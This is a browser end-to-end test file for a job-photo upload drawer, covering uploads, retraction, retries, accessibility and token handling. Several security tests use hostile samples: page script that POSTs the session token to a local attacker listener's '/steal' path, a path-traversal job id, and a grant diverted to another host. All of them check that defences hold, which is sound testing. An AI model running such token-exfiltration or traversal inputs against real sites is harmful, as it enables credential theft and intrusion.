// The job-drawer capture module on its demo host, driven in Debian's Chromium against the real
// stack (Garage, moto, the function under cargo lambda watch, the pipeline's stand-in).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import {
  API_URL, BROWSER_MAX_BYTES, BROWSER_TOKEN, LONG, OTHER_PAGE_URL, PAGE_URL, PHONE, S3_ORIGIN, SCREENSHOT,
  assertNoProblems, auditEvents, auditRows, completedKeys, enterToken, jpeg, jpegFiles, launch, listedPhotos, newJob,
  openDrawer, signedInDrawer, waitRecorded, waitThumbnails,
} from "./support.mjs";

let browser;
before(async () => { browser = await launch(); });
after(async () => browser?.close());

test("two photos upload in parallel, are recorded once, show as checking, then as the pipeline's thumbnails", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  const files = await jpegFiles(page, ["front-door.jpg", "meter.jpg"]);
  // Every "Checking…" tile the strip ever shows, however briefly (the stand-in may be quick).
  await page.evaluate(() => {
    window.checkingSeen = new Set();
    const strip = document.querySelector(".qc-strip");
    new MutationObserver(() => {
      for (const li of strip.querySelectorAll("li[data-state=checking]")) window.checkingSeen.add(li.textContent);
      window.checkingTiles = Math.max(window.checkingTiles || 0, strip.querySelectorAll("li[data-state=checking]").length);
    }).observe(strip, { childList: true, subtree: true });
  });
  // Grants asked for: the two photos' together, in one request.
  const grantRequests = [];
  page.on("request", (req) => {
    if (!req.url().startsWith(`${API_URL}/upload-url`) || req.method() === "OPTIONS") return;
    if (req.method() === "GET") grantRequests.push("one");
    else if (JSON.parse(req.postData() || "{}").files) grantRequests.push(`batch of ${JSON.parse(req.postData()).files.length}`);
  });
  await page.setInputFiles(".qc-file", files);

  await waitRecorded(page, 2);
  assert.deepEqual(grantRequests, ["batch of 2"]);
  assert.deepEqual(await page.$$eval(".qc-uploads progress", (ps) => ps.map((p) => p.value)), [100, 100]);
  assert.equal(await page.textContent(".qc-summary"), "2 of 2 recorded.");
  // The strip shows the pipeline's thumbnails (made on S3's event, here the local stand-in's),
  // loaded, each opening the full-size photo when tapped.
  await waitThumbnails(page, 2);
  // The moment they were recorded, before the pipeline had verified them: a tile each, no link.
  assert.ok(await page.evaluate(() => window.checkingTiles >= 1), "a Checking… tile appeared");
  assert.deepEqual(await page.evaluate(() => [...window.checkingSeen]), ["Checking…"]);
  assert.equal(await page.locator(".qc-strip li[data-state=checking]").count(), 0, "every tile turned into a thumbnail");
  const links = await page.$$eval(".qc-strip a", (as) => as.map((a) => a.href));
  assert.equal(links.length, 2);
  assert.ok(links.every((href) => href.includes(`/jobs/${job}/`) && !href.includes("/thumbs/")), links.join("\n"));
  assert.equal((await completedKeys(job)).length, 2, "each key recorded once");
  const photos = await listedPhotos(job);
  assert.deepEqual(photos.map((p) => p.size).sort(), files.map((f) => f.buffer.length).sort());
  // The page hashed each photo before asking for its grant; the grant bound it, and the pipeline's
  // hash of what S3 stored is the same.
  const hashes = files.map((f) => createHash("sha256").update(f.buffer).digest("hex")).sort();
  assert.deepEqual(photos.map((p) => p.sha256).sort(), hashes);
  const granted = auditRows(job).filter((row) => row.event.S === "upload_url_issued").map((row) => row.sha256?.S);
  assert.deepEqual(granted.sort(), hashes);
  // Screen readers heard what finished, not every percent.
  assert.match(await page.textContent(".qc-sr"), /recorded/);
  await page.screenshot({ path: SCREENSHOT });
  assertNoProblems(page);
});

test("a photo taken by mistake is taken back from the strip with two taps, and leaves the job for good", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  await page.setInputFiles(".qc-file", await jpegFiles(page, ["keep.jpg", "mistake.jpg"]));
  await waitRecorded(page, 2);
  await waitThumbnails(page, 2);
  // The uploader's own photos, inside the retraction window: each tile offers it.
  assert.equal(await page.locator(".qc-strip .qc-take-back").count(), 2);
  const [keep, mistake] = (await listedPhotos(job)).sort((a, b) => a.key.localeCompare(b.key));
  // Newest first: the second tile is the first photo uploaded. One tap only asks.
  const tile = page.locator(".qc-strip li", { has: page.locator(`a[href^="${mistake.url.split("?")[0]}"]`) });
  await tile.locator(".qc-take-back").click();
  assert.equal(await tile.locator(".qc-take-back").textContent(), "Tap again to remove");
  assert.equal((await listedPhotos(job)).length, 2, "one tap removes nothing");
  await tile.locator(".qc-take-back").click();
  await page.waitForFunction(() => document.querySelectorAll(".qc-strip li").length === 1, null, LONG);
  assert.match(await page.textContent(".qc-strip-status"), /was taken back/);
  assert.deepEqual((await listedPhotos(job)).map((p) => p.key), [keep.key]);
  assert.equal(auditEvents(job).filter((e) => e === "photo_retracted").length, 1);
  assert.equal((await fetch(mistake.url)).status, 404, "its bytes are gone from S3");
  // A refresh does not bring it back.
  await page.click(".qc-refresh");
  await page.waitForFunction(() => document.querySelectorAll(".qc-strip li").length === 1, null, LONG);
  assertNoProblems(page);
});

test("two buttons, one queue: the camera and the photos already taken are uploaded and recorded alike", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  const inputs = await page.$$eval(".qdn-capture input[type=file]", (els) =>
    els.map((el) => ({ cls: el.className, capture: el.getAttribute("capture"), multiple: el.multiple, label: el.labels[0].textContent })));
  assert.deepEqual(inputs, [
    { cls: "qc-camera", capture: "environment", multiple: false, label: "Take a photo" },
    { cls: "qc-file", capture: null, multiple: true, label: "Choose photos" },
  ]);
  const [taken, ...chosen] = await jpegFiles(page, ["taken-now.jpg", "from-library-1.jpg", "from-library-2.jpg"]);
  await page.setInputFiles(".qc-camera", [taken]);
  await page.setInputFiles(".qc-file", chosen);
  await waitRecorded(page, 3);
  assert.equal(await page.textContent(".qc-summary"), "3 of 3 recorded.");
  await waitThumbnails(page, 3);
  assert.equal((await completedKeys(job)).length, 3);
  assertNoProblems(page);
});

test("a file over max_bytes is refused before upload and nothing is stored", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  const big = Buffer.concat([await jpeg(page, 3), Buffer.alloc(Number(BROWSER_MAX_BYTES))]);
  await page.setInputFiles(".qc-file", [{ name: "too-big.jpg", mimeType: "image/jpeg", buffer: big }]);
  await page.waitForSelector(".qc-uploads li[data-state=failed]");
  assert.match(await page.textContent(".qc-uploads li .qc-msg"), /Too large: too-big\.jpg is .* MB/);
  assert.equal(await page.textContent(".qc-summary"), "0 of 1 recorded, 1 failed.");
  // A failed photo can be removed from the queue (and so from the phone's storage).
  await page.click(".qc-uploads li button:has-text('Remove')");
  await page.waitForFunction(() => document.querySelectorAll(".qc-uploads li").length === 0);
  assert.deepEqual(await listedPhotos(job), []);
  assert.ok(!auditEvents(job).includes("upload_completed"));
  assertNoProblems(page);
});

test("a wrong token gets the 401 message and a new prompt, and is never put in a URL", async () => {
  const page = await openDrawer(browser, newJob());
  const urls = [];
  page.on("request", (req) => urls.push(req.url()));
  await enterToken(page, "not-the-token");
  await page.waitForSelector("#token-reason:has-text('was not accepted')");
  assert.equal(await page.isVisible("#token-form"), true);
  assert.equal(await page.evaluate(() => sessionStorage.getItem("qdn-photos-token")), null, "a refused token is forgotten");
  assert.ok(urls.length > 0 && urls.every((u) => !u.includes("not-the-token")), urls.join("\n"));
  assertNoProblems(page);
});

test("a page served from an origin not in ALLOWED_ORIGINS is blocked by the browser's CORS check", async () => {
  // The function's own CORS answers here (cargo lambda watch runs with --disable-cors), as the
  // HTTP API's CorsConfiguration does in production: a refused preflight, no readable response.
  const job = newJob();
  const page = await openDrawer(browser, job, { pageUrl: OTHER_PAGE_URL });
  const corsErrors = [];
  page.on("console", (msg) => { if (/CORS policy/.test(msg.text())) corsErrors.push(msg.text()); });
  await enterToken(page);
  await page.waitForSelector(".qc-strip-status:has-text('No connection to the server.')", LONG);
  await page.setInputFiles(".qc-file", [{ name: "blocked.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 4) }]);
  await page.waitForSelector(".qc-uploads li:has-text('waiting for connection')", LONG);
  assert.ok(corsErrors.length >= 1, "the browser reported the CORS refusal");
  assert.ok(corsErrors.every((e) => e.includes(OTHER_PAGE_URL)), corsErrors.join("\n"));
  // The API answered the same request from the allowed origin's page, and issued nothing here.
  assert.deepEqual(auditEvents(job), []);
  assert.deepEqual(await listedPhotos(job), []);
});

test("a page URL naming another API changes nothing: the token goes only to the deployed API", async () => {
  // A hostile link: the real page, told to use a listener of the attacker's.
  const seen = [];
  const evil = createServer((req, res) => {
    seen.push({ url: req.url, authorization: req.headers.authorization });
    res.writeHead(200, { "access-control-allow-origin": "*", "access-control-allow-headers": "*", "content-type": "application/json" });
    res.end(JSON.stringify({ url: "http://127.0.0.1:1/", fields: {}, key: "x", max_bytes: 1e9, photos: [] }));
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
  const evilUrl = `http://127.0.0.1:${evil.address().port}`;
  try {
    const job = newJob();
    const context = await browser.newContext(PHONE);
    const withAuth = [];
    context.on("request", (req) => {
      const headers = req.headers();
      if (headers.authorization) withAuth.push(new URL(req.url()).origin);
    });
    const page = await openDrawer(browser, job, { context, query: `&api=${encodeURIComponent(evilUrl)}&apiBase=${encodeURIComponent(evilUrl)}` });
    await enterToken(page);
    await page.setInputFiles(".qc-file", [{ name: "site.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 5) }]);
    await waitRecorded(page, 1);
    assert.deepEqual(completedKeys(job).length, 1, "uploaded and recorded through the deployed API");

    // Even script running in the page (an XSS) cannot reach the listener: connect-src stops it.
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(`${url}/steal`, { method: "POST", body: sessionStorage.getItem("qdn-photos-token") });
        return "sent";
      } catch {
        return "blocked";
      }
    }, evilUrl);
    assert.equal(outcome, "blocked");
    assert.deepEqual(seen, [], "the listener never received a request");
    assert.ok(withAuth.length >= 3, withAuth.join("\n"));
    assert.deepEqual([...new Set(withAuth)], [new URL(API_URL).origin], "Authorization went to the API only");
    await context.close();
  } finally {
    evil.close();
  }
});

test("a job id that is not one is refused by the page before any request", async () => {
  const context = await browser.newContext(PHONE);
  const apiCalls = [];
  context.on("request", (req) => { if (req.url().startsWith(API_URL)) apiCalls.push(req.url()); });
  const page = await openDrawer(browser, encodeURIComponent("../../upload-url?job_id=x"), { context });
  await page.waitForSelector("#page-problem:not([hidden])");
  assert.match(await page.textContent("#page-problem"), /cannot open job/);
  assert.deepEqual(apiCalls, []);
  await context.close();
});

test("one upload cut by the network: the other two are recorded and shown before Retry is clicked", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  const files = await jpegFiles(page, ["kitchen.jpg", "cut.jpg", "boiler.jpg"]);
  const cutSize = String(files[1].buffer.length);
  // The grant for cut.jpg (the only file of its size) is tagged, whether asked for alone or in a
  // batch, and the POST to S3 that carries that tag has its connection cut, for as long as `cut` holds.
  let cut = true;
  let cutAttempts = 0;
  const tag = (grant) => {
    if (String(grant.max_bytes) === cutSize) grant.url += "?cut=1";
  };
  await page.route(`${API_URL}/upload-url**`, async (route) => {
    const req = route.request();
    const single = req.method() === "GET" && new URL(req.url()).searchParams.get("size") === cutSize;
    const batch = req.method() === "POST" && JSON.parse(req.postData() || "{}").files;
    if (!cut || !(single || batch)) return route.continue();
    const resp = await route.fetch();
    const body = await resp.json();
    if (resp.ok()) (body.grants || [body]).forEach(tag);
    return route.fulfill({ response: resp, json: body });
  });
  await page.route(`${S3_ORIGIN}/**`, (route) => {
    if (!route.request().url().includes("cut=1")) return route.continue();
    cutAttempts++;
    return route.abort("internetdisconnected");
  });
  await page.setInputFiles(".qc-file", files);

  await waitRecorded(page, 2);
  await page.waitForSelector(".qc-uploads li:has-text('cut.jpg') button:has-text('Retry')", LONG);
  assert.ok(cutAttempts >= 1);
  assert.match(await page.textContent(".qc-uploads li:has-text('cut.jpg')"), /waiting for connection/);
  // Recorded, verified and shown while cut.jpg still waits.
  await waitThumbnails(page, 2);
  const others = (await listedPhotos(job)).map((p) => p.size).sort();
  assert.deepEqual(others, [files[0], files[2]].map((f) => f.buffer.length).sort());

  // Back on the network, Retry (or the automatic retry, if it came first) sends it: recorded once.
  cut = false;
  await page.evaluate(() => [...document.querySelectorAll(".qc-uploads li")]
    .find((li) => li.textContent.includes("cut.jpg"))?.querySelector("button")?.click());
  await waitRecorded(page, 3);
  await waitThumbnails(page, 3);
  const keys = completedKeys(job);
  assert.equal(keys.length, 3);
  assert.equal(new Set(keys).size, 3, "nothing recorded twice");
  assert.equal((await listedPhotos(job)).length, 3);
  assertNoProblems(page);
});

test("keyboard and screen readers: every control labelled and operable, no serious axe-core finding", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  // Tab reaches the capture button; Enter opens the camera/file chooser. (Listening first, well
  // before the key: Playwright turns on file-chooser interception asynchronously, and a chooser
  // opened before that is a native dialog no test sees.)
  const opened = page.waitForEvent("filechooser", LONG);
  let focused = "";
  for (let i = 0; i < 10 && focused !== "qc-file"; i++) {
    await page.keyboard.press("Tab");
    focused = await page.evaluate(() => document.activeElement?.className || "");
  }
  assert.equal(focused, "qc-file", "the capture button is in the tab order");
  await page.keyboard.press("Enter");
  const chooser = await opened;
  assert.ok(chooser.isMultiple());
  await chooser.setFiles(await jpegFiles(page, ["by-keyboard.jpg"]));
  await waitRecorded(page, 1);
  await waitThumbnails(page, 1);
  // And a failed row, so its Retry and Remove are checked too.
  await page.setInputFiles(".qc-file", [{ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("hello") }]);
  await page.waitForSelector(".qc-uploads li[data-state=failed]");
  assert.match(await page.textContent(".qc-sr"), /notes\.txt failed/);

  await page.evaluate(readFileSync("node_modules/axe-core/axe.min.js", "utf8"));
  const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
  const serious = violations.filter((v) => v.impact === "serious" || v.impact === "critical");
  assert.deepEqual(serious.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(", ")}`), []);
  const names = await page.$$eval(".qdn-capture button, .qdn-capture input, .qc-strip a", (els) =>
    els.map((el) => el.getAttribute("aria-label") || el.labels?.[0]?.textContent || el.querySelector("img")?.alt || el.textContent));
  assert.ok(names.every((n) => n && n.trim()), names.join(" | "));
  assertNoProblems(page);
});

test("a grant naming another upload host is refused before a byte is sent", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  const elsewhere = [];
  page.on("request", (req) => { if (req.url().startsWith("http://127.0.0.1:9/")) elsewhere.push(req.url()); });
  // The API's answer, tampered with on the way (or a compromised API): the same grant, another host.
  await page.route(`${API_URL}/upload-url?**`, async (route) => {
    const resp = await route.fetch();
    const grant = await resp.json();
    return route.fulfill({ response: resp, json: { ...grant, url: "http://127.0.0.1:9/qdn-uploads" } });
  });
  await page.setInputFiles(".qc-file", await jpegFiles(page, ["diverted.jpg"]));
  await page.waitForSelector(".qc-uploads li[data-state=failed]", LONG);
  assert.match(await page.textContent(".qc-uploads li .qc-msg"), /unexpected storage address, so nothing was sent/);
  assert.deepEqual(elsewhere, []);
  assert.deepEqual(await listedPhotos(job), []);
  assertNoProblems(page);
});

test("a photo chosen before signing in waits for sign-in, then goes up", async () => {
  const job = newJob();
  const page = await openDrawer(browser, job);
  await page.waitForSelector("#token-reason:has-text('Enter your access token')");
  await page.setInputFiles(".qc-file", await jpegFiles(page, ["early.jpg"]));
  await page.waitForSelector(".qc-uploads li:has-text('waiting for sign-in')", LONG);
  assert.deepEqual(auditEvents(job), []);
  await enterToken(page);
  await waitRecorded(page, 1);
  await waitThumbnails(page, 1);
  assert.equal(completedKeys(job).length, 1);
  assertNoProblems(page);
});

test("a request that hangs on a dead link is given up after 30 s, and the photo goes up later", async () => {
  const job = newJob();
  const page = await signedInDrawer(browser, job);
  // The grant request is sent and never answered (a link that died mid-request).
  await page.route(`${API_URL}/upload-url?**`, () => new Promise(() => {}));
  await page.setInputFiles(".qc-file", await jpegFiles(page, ["dead-link.jpg"]));
  await page.waitForSelector(".qc-uploads li:has-text('waiting for connection')", { timeout: 90_000 });
  assert.match(await page.textContent(".qc-uploads li .qc-msg"), /No connection to the server/);
  await page.unrouteAll({ behavior: "ignoreErrors" });
  await page.evaluate(() => document.querySelector(".qc-uploads li button")?.click());
  await waitRecorded(page, 1);
  assert.equal(completedKeys(job).length, 1);
  assertNoProblems(page);
});
